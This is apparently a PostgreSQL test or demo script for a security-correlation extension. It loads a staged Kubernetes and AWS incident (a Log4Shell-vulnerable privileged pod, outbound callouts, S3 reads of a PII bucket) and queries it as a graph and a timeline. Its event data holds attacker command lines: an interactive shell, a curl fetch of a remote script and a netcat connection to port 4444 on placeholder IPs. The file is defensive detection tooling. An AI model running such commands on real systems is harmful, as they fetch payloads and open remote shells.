-- The seed scenario (DEVELOPERS.md): a privileged, internet-facing pod in namespace
-- legacy-webapp with an exploitable CVE gets a root shell, calls out to unknown IPs,
-- and its IRSA role reads a sensitive bucket.  Loaded through the write API, then
-- shown by domain, as a graph and as a timeline.
\pset footer off
\pset null '-'
SET TIME ZONE 'UTC';
SET client_min_messages = warning;
DROP EXTENSION IF EXISTS correlate CASCADE;
CREATE EXTENSION correlate;
RESET client_min_messages;
SET correlate.default_cluster = 'prod-eks';

\echo '== Loading the seed scenario through the write API'
SELECT count(*) AS resources_loaded FROM correlate.upsert_resources(
	ARRAY['internet',
		  'k8s://prod-eks/_/namespace/legacy-webapp',
		  'k8s://prod-eks/legacy-webapp/service/webapp-lb',
		  'k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k',
		  'container://8c2f1e7a9b3d',
		  'image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8',
		  'k8s://prod-eks/_/node/ip-10-0-1-23.ec2.internal',
		  'k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa',
		  'arn:aws:iam::111122223333:role/legacy-webapp-role',
		  'arn:aws:iam::111122223333:policy/legacy-webapp-broad',
		  'arn:aws:s3:::acme-customer-pii',
		  'ip://203.0.113.50',
		  'ip://198.51.100.7'],
	ARRAY['internet', 'k8s:namespace', 'k8s:service', 'k8s:pod', 'container', 'container:image', 'k8s:node',
		  'k8s:serviceaccount', 'aws:iam:role', 'aws:iam:policy', 'aws:s3:bucket', 'network:ip', 'network:ip'],
	names => ARRAY['internet', 'legacy-webapp', 'webapp-lb', 'webapp-7d4b9c6f5-x2x9k', 'webapp', 'legacy/webapp:1.4.2',
		  'ip-10-0-1-23.ec2.internal', 'webapp-sa', 'legacy-webapp-role', 'legacy-webapp-broad', 'acme-customer-pii',
		  '203.0.113.50', '198.51.100.7'],
	accounts => ARRAY[NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, '111122223333', '111122223333', '111122223333', NULL, NULL],
	namespaces => ARRAY[NULL, NULL, 'legacy-webapp', 'legacy-webapp', 'legacy-webapp', NULL, NULL, 'legacy-webapp', NULL, NULL, NULL, NULL, NULL],
	props => ARRAY[NULL, NULL, '{"type":"LoadBalancer","hostname":"a1b2c3d4e5f6-1234567890.us-east-1.elb.amazonaws.com"}',
		  '{"privileged":true,"runAsUser":0}', NULL, '{"ref":"registry.example.com/legacy/webapp:1.4.2"}', NULL,
		  '{"annotations":{"eks.amazonaws.com/role-arn":"arn:aws:iam::111122223333:role/legacy-webapp-role"}}',
		  NULL, '{"statements":["s3:* on *","ec2:Describe* on *","iam:PassRole on *"]}', NULL, NULL, NULL]::jsonb[],
	criticalities => ARRAY[NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 1.0, NULL, NULL]::real[]);

CREATE TEMP TABLE ids AS SELECT uid, id FROM correlate.resource;
CREATE FUNCTION pg_temp.id(u text) RETURNS bigint LANGUAGE sql AS $$ SELECT id FROM ids WHERE uid = u $$;

SELECT count(*) AS relationships_loaded FROM correlate.link_many(
	ARRAY[pg_temp.id('internet'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/service/webapp-lb'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('container://8c2f1e7a9b3d'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('k8s://prod-eks/_/namespace/legacy-webapp'),
		  pg_temp.id('container://8c2f1e7a9b3d'),
		  pg_temp.id('container://8c2f1e7a9b3d')],
	ARRAY[pg_temp.id('k8s://prod-eks/legacy-webapp/service/webapp-lb'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa'),
		  pg_temp.id('k8s://prod-eks/_/node/ip-10-0-1-23.ec2.internal'),
		  pg_temp.id('container://8c2f1e7a9b3d'),
		  pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
		  pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('arn:aws:iam::111122223333:policy/legacy-webapp-broad'),
		  pg_temp.id('arn:aws:s3:::acme-customer-pii'),
		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
		  pg_temp.id('ip://203.0.113.50'),
		  pg_temp.id('ip://198.51.100.7')],
	ARRAY['exposes', 'exposes', 'runs_as', 'runs_on', 'contains', 'uses_image', 'uses_image', 'assumes',
		  'has_policy', 'can_access', 'contains', 'connects_to', 'connects_to'],
	likelihoods => ARRAY[0.95, 0.9, 0.9, 0.6, 0.9, 0.9, 0.9, 0.85, 0.9, 0.9, 0.9, 0.5, 0.5],
	props => ARRAY['{"port":80}', '{"targetPort":8080}', NULL, NULL, NULL, NULL, NULL, '{"via":"IRSA"}', NULL,
		  '{"class":"read","actions":["s3:*"]}', NULL, '{"port":443}', '{"port":4444}']::jsonb[],
	sources => ARRAY['k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'k8s_inventory',
		  'k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'aws_iam', 'aws_iam', 'k8s_inventory', 'falco', 'falco']);

SELECT correlate.record_finding(pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
	'vulnerability', 'CVE-2021-44228', 'critical', title => 'Apache Log4j2 JNDI remote code execution (Log4Shell)',
	package => 'org.apache.logging.log4j:log4j-core', cvss => 10.0, known_exploited => true,
	installed_version => '2.14.1', fixed_version => '2.15.0', source => 'trivy') IS NOT NULL AS vuln_recorded;
SELECT correlate.record_finding(pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
	'misconfiguration', 'privileged', 'high', title => 'container webapp runs privileged', source => 'k8s_inventory')
	IS NOT NULL AS misconfig_recorded;
SELECT correlate.record_ip_lease('10.0.1.57', pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
	'2026-11-01 08:00+00', source => 'k8s_inventory') IS NOT NULL AS lease_recorded;

SELECT count(*) AS events_loaded FROM correlate.record_events(
	ARRAY['2026-11-20 10:00:00+00', '2026-11-20 10:02:10+00', '2026-11-20 10:02:40+00', '2026-11-20 10:04:30+00',
		  '2026-11-20 10:05:00+00', '2026-11-20 10:06:00+00', '2026-11-20 10:06:30+00']::timestamptz[],
	ARRAY[1007, 4001, 4001, 6003, 6003, 6003, 6003],
	ARRAY['falco', 'falco', 'falco', 'cloudtrail', 'cloudtrail', 'cloudtrail', 'cloudtrail'],
	domains => ARRAY['workload', 'network', 'network', 'identity', 'data', 'data', 'data'],
	severity_ids => ARRAY[3, 3, 3, 1, 2, 3, 3],
	actors => ARRAY[pg_temp.id('container://8c2f1e7a9b3d'), pg_temp.id('container://8c2f1e7a9b3d'),
		  pg_temp.id('container://8c2f1e7a9b3d'), pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role')],
	targets => ARRAY[NULL, pg_temp.id('ip://203.0.113.50'), pg_temp.id('ip://198.51.100.7'), NULL, NULL,
		  pg_temp.id('arn:aws:s3:::acme-customer-pii'), pg_temp.id('arn:aws:s3:::acme-customer-pii')],
	src_ips => ARRAY[NULL, '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57']::inet[],
	dst_ips => ARRAY[NULL, '203.0.113.50', '198.51.100.7', NULL, NULL, NULL, NULL]::inet[],
	dst_ports => ARRAY[NULL, 443, 4444, NULL, NULL, NULL, NULL],
	processes => ARRAY['bash', 'curl', 'nc', NULL, NULL, NULL, NULL],
	command_lines => ARRAY['bash -i', 'curl -s https://203.0.113.50/x.sh', 'nc 198.51.100.7 4444', NULL, NULL, NULL, NULL],
	actions => ARRAY['execve', 'connect', 'connect', 'sts:AssumeRoleWithWebIdentity', 's3:ListBuckets',
		  's3:GetObject', 's3:GetObject'],
	outcomes => ARRAY[NULL, NULL, NULL, 'success', 'success', 'success', 'success'],
	rules => ARRAY['Terminal shell in container', 'Unexpected outbound connection destination',
		  'Unexpected outbound connection destination', NULL, NULL, NULL, NULL]);
-- the role's legitimate, daily use
SELECT count(*) AS baseline_events_loaded FROM correlate.record_events(
	ARRAY(SELECT d + time '09:00' FROM generate_series('2026-11-10'::date, '2026-11-19', '1 day') d)::timestamptz[],
	array_fill(6003, ARRAY[10]), array_fill('cloudtrail'::text, ARRAY[10]),
	domains => array_fill('cloud'::text, ARRAY[10]),
	actors => array_fill(pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'), ARRAY[10]),
	actions => array_fill('ec2:DescribeInstances'::text, ARRAY[10]),
	outcomes => array_fill('success'::text, ARRAY[10]));

\echo
\echo '== Resources by domain'
SELECT domain, count(*) AS resources, string_agg(kind || ' ' || COALESCE(name, uid), ', ' ORDER BY kind, uid) AS what
FROM correlate.resource GROUP BY domain ORDER BY domain;

\echo '== Relationships (how an attacker moves)'
SELECT s.name AS src, r.kind, d.name AS dst, r.likelihood, r.source
FROM correlate.relationship r JOIN correlate.resource s ON s.id = r.src JOIN correlate.resource d ON d.id = r.dst
ORDER BY r.id;

\echo '== Findings'
SELECT r.name AS resource, f.kind, f.check_id, f.severity, f.cvss, f.known_exploited, f.title
FROM correlate.finding f JOIN correlate.resource r ON r.id = f.resource ORDER BY f.severity DESC, f.check_id;

\echo '== Events in time order, across workload, network, identity and data (2026-11-20)'
SELECT to_char(e.ts, 'HH24:MI:SS') AS time, e.domain, e.source, COALESCE(e.rule, e.action) AS what,
	   a.name AS actor, COALESCE(t.name, host(e.dst_ip)) AS target, e.command_line
FROM correlate.event e
LEFT JOIN correlate.resource a ON a.id = e.actor LEFT JOIN correlate.resource t ON t.id = e.target
WHERE e.ts >= '2026-11-20' ORDER BY e.ts;

\echo '== What the role was granted versus what it used before the incident'
SELECT e.action, count(*) AS calls, min(e.ts)::date AS first, max(e.ts)::date AS last
FROM correlate.event e WHERE e.actor = pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role')
  AND e.ts < '2026-11-20' GROUP BY e.action ORDER BY e.action;
